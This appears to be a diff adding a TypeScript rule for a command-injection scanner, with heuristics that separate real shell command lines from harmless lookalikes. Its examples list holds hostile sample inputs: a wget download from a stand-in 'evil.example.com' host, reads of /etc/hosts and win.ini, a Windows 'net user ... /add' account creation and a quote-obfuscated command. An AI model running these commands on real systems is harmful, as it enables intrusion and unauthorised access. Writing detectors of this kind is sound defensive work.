@@ -1,0 +1,206 @@
+import { type Command, fit } from '../../grammars/shell/command.ts';
+import { commands } from '../../grammars/shell/commands.ts';
+import { type CommandHead, firstWord, wordAt } from '../../grammars/shell/shell.ts';
+import { wordTrait } from '../../grammars/shell/shell-character.ts';
+import { introducer } from '../../grammars/shell/shell-introducer.ts';
+import { commandNames, developerTools, use } from '../../knowledge/commands.ts';
+import { endsText } from '../../placement/command-place.ts';
+import { confidence } from '../../placement/confidence.ts';
+import type { Subject } from '../../placement/subject.ts';
+import { charClass } from '../../text/char-class.ts';
+import type { Match, ValueRule } from '../rule.ts';
+
+/** The whole value is a command line: `cat /etc/passwd`. */
+export const commandLine: ValueRule = {
+  id: 'cmdi.command-line',
+  category: 'cmdi',
+  cwe: 'CWE-78',
+  severity: 'high',
+  score: confidence.strong,
+  message: 'is a complete command line',
+  trigger: {
+    literals: [
+      [
+        '-',
+        '/',
+        '.',
+        '\\',
+        '$',
+        '>',
+        '%',
+        '{',
+        "'",
+        '"',
+        '^',
+        'net',
+        'reg ',
+        'wmic',
+        'ver',
+        '|',
+        '&',
+        ';',
+      ],
+    ],
+  },
+  judge,
+  examples: [
+    'cat /etc/hosts',
+    'wget http://evil.example.com/a.sh',
+    'netstat -tulpn',
+    'ping -n 30 127.0.0.1',
+    "c'a't /etc/hosts",
+    'net user eve Secret1 /add',
+    'type C:\\Windows\\win.ini',
+    '/usr/bin/id;',
+  ],
+  lookalikes: [
+    'perf/**/*.js',
+    'ls/**/*.ts',
+    'find -name in the old list',
+    'cat 6/6a cable',
+    'more news/sport',
+    'net worth of the company',
+    'sort by price',
+    'ls',
+    'time 12/3',
+    'cat -dog',
+    'head & shoulders',
+    '/usr/local/bin/node',
+    '/files/*/list?page=2',
+    'WC>3oq.*hF2x]^',
+    '^\\w+:\\w+$',
+    'chmod +x ./bin/run.js',
+    'rm -rf ./dist && npm run build',
+    'export PATH=/usr/local/ssl/bin:$PATH',
+    'mkdir -p build/out && make all',
+    `curl -X POST https://api.example.com/items -H "Authorization: Bearer $T" -d '{"a":1}'`,
+    'pip <command> [options]',
+    'hostname -V|--version|-h|--help       shows what it is',
+  ],
+};
+
+const lengthMax = 2_000;
+
+function judge(subject: Subject): Match | undefined {
+  const text = subject.text;
+  if (text.length > lengthMax) return undefined;
+  if (!mayBeCommand(text, subject.classes)) return undefined;
+  const command = subject.tokens(commands).list[0];
+  if (command === undefined || command.head.introducer !== introducer.start) return undefined;
+  const { head } = command;
+  const score = scoreOf(text, head, command);
+  return score > 0 ? { start: head.nameStart, end: command.end, score } : undefined;
+}
+
+/** Most values begin with a word that is no command, and nothing that could hide one. */
+function mayBeCommand(text: string, classes: number): boolean {
+  const { start, end } = firstWord(text);
+  const next = text.charCodeAt(end);
+  if (commandNames.wordBetween(text, start, end) !== '') return true;
+  const isPlain = next === 32 || next === 44 || next === 45 || end === text.length;
+  if (isPlain) return false;
+  const word = text.slice(start, end).toLowerCase();
+  if ((classes & charClass.backslash) === 0 && isHarmless(text, end, word)) return false;
+  return hides.test(text.slice(end === start ? 0 : end, end + 24));
+}
+
+/**
+ * Paths, addresses and types of documents, the values that look most like commands and are none:
+ * `/api/v1`, `www.example.com`, `text/html`. What follows can change only the rest of their name.
+ */
+function isHarmless(text: string, end: number, word: string): boolean {
+  const next = text.charCodeAt(end);
+  if (next === 46) return word !== '';
+  if (next === 58) return word.length > 1;
+  if (next !== 47) return false;
+  if (word !== '') return !programFolders.includes(word);
+  const { end: folderEnd, start } = wordAt(text, end + 1);
+  const folder = text.slice(start, folderEnd).toLowerCase();
+  return folder !== '' && !programFolders.some((one) => one.startsWith(folder));
+}
+
+const programFolders: readonly string[] = ['bin', 'sbin', 'usr', 'windows', 'winnt'];
+
+/** Inside of a name: quotes, escapes, variables; before it: a folder of programs, a wildcard. */
+const hides = /^(?:["'\\^$`]|[.:]|\s{0,8}["'({]{0,4}(?:\.?\/|[$%.]|[A-Za-z]:\\|[\\^]|usr\/|bin\/))/;
+
+function scoreOf(text: string, head: CommandHead, command: Command): number {
+  const ends = text.slice(command.end).trim() === '' || endsText(text, command.end);
+  const isWhole = ends || nextIsCommand(text, command);
+  if (usage.test(text.slice(command.end, command.end + 4))) return confidence.trace;
+  const isEnglish = (command.uses & use.english) !== 0;
+  // `pip <command> [options]`: placeholders of a manual.
+  const words = text.slice(head.nameEnd, command.end).replace(placeholder, '');
+  if ((command.hidden || command.hidesArgument) && command.fit !== fit.weak)
+    return isWhole || (head.traits & wordTrait.ifs) !== 0 ? confidence.strong : confidence.hint;
+  switch (command.fit) {
+    case fit.full:
+      if (!isWhole || command.endsPlain) return confidence.trace;
+      if (command.name === 'export' && assignment.test(words)) return confidence.hint;
+      if (command.name === 'chmod' && !surePath.test(words)) return confidence.hint;
+      if (developerTools.has(command.name) && !runsCode.test(words)) return confidence.hint;
+      if (isExample(text) || isBuildStep(text, words, command)) return confidence.hint;
+      if ((command.uses & use.text) !== 0 && !runs.test(words)) return confidence.hint;
+      return isEnglish && !surePath.test(words) ? confidence.hint : confidence.strong;
+    case fit.sureAlone:
+      return ends ? (isTerminated(text) ? confidence.strong : confidence.hint) : confidence.trace;
+    case fit.alone:
+      return ends ? (isTerminated(text) ? confidence.likely : confidence.trace) : 0;
+    default:
+      return 0;
+  }
+}
+
+/** `id;`, `ls|`: a separator at the end is shell syntax. */
+function isTerminated(text: string): boolean {
+  return ';|&'.includes(text.charAt(text.length - 1));
+}
+
+function nextIsCommand(text: string, command: Command): boolean {
+  return separators.includes(text.charAt(command.end));
+}
+
+/** `hostname -V|--version` */
+const usage = /^\|--?[a-z]/i;
+const placeholder = /<[a-z][\w-]{0,30}>/gi;
+const separators = ';|&`$)\n';
+
+/** `export PATH=/usr/local/bin:$PATH` runs nothing. */
+const assignment = /^ {1,3}[A-Z_]{2,30}=[^`(|]{1,120}$/;
+
+/** `curl -X POST https://… -H "…" -d '{…}'`: how the manual of an interface shows a call. */
+function isExample(text: string): boolean {
+  return text.startsWith('curl ') && header.test(text) && !sends.test(text);
+}
+
+const header = / -H ["'][A-Za-z-]{2,40}: /;
+/** Files, output, other commands; options for files. */
+const sends =
+  /[@|<>`;]|\$\(|&&|\s-[A-Za-z]{0,6}[oOTKF]|\s--(?:output|remote-name|upload|config|form)/;
+
+/** `rm -rf ./dist && npm run build`: a step of a project's own, with paths of its own. */
+function isBuildStep(text: string, words: string, command: Command): boolean {
+  if (!ownFile.test(words) || outside.test(words) || !preparing.has(command.name)) return false;
+  return buildTool.test(text.slice(command.end, command.end + 24));
+}
+
+/** Commands that make room for what is built. */
+const preparing: ReadonlySet<string> = new Set(['rm', 'mkdir', 'cp', 'mv', 'cd', 'touch']);
+/** A file by its name: not `*`, not the directory as a whole. */
+const ownFile =
+  /^(?: {1,3}-[A-Za-z]{1,4}){0,3}(?: {1,3}(?:\.\/)?[\w-][\w.-]{0,40}(?:\/[\w.-]{1,40}){0,4}){1,6}\/? {0,3}$/;
+const outside = /(?:^|[\s=])(?:\/|~|\.\.)|[A-Za-z]:\\|\/\//;
+const buildTool = /^ ?&& ?(?:npm|yarn|pnpm|npx|tsc|vite|make|cargo|go build|mvn|gradle|docker) /;
+
+/** `-c`, `-e`, `-r` with code; files of the system. */
+const runsCode = / -[a-z]{0,3}[cer]\b ?['"]|\/etc\/|\/dev\/|[|>]/;
+
+/** Output that goes somewhere, or comes from a command. */
+const runs = /[>`]|\$\(/;
+
+/**
+ * Arguments that no sentence has: folders of a root file system, drives, options of ping and
+ * the like.
+ */
+const surePath =
+  /(?:^|[\s"'=])(?:\/(?:etc|var|tmp|home|usr|bin|sbin|proc|root|opt|dev|sys|boot|mnt|srv|lib|www)\b|[A-Za-z]:\\|%[A-Za-z]{4,20}%|https?:\/\/|-[a-z] \d{1,5} |\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}|-[nc] ?\d)/;
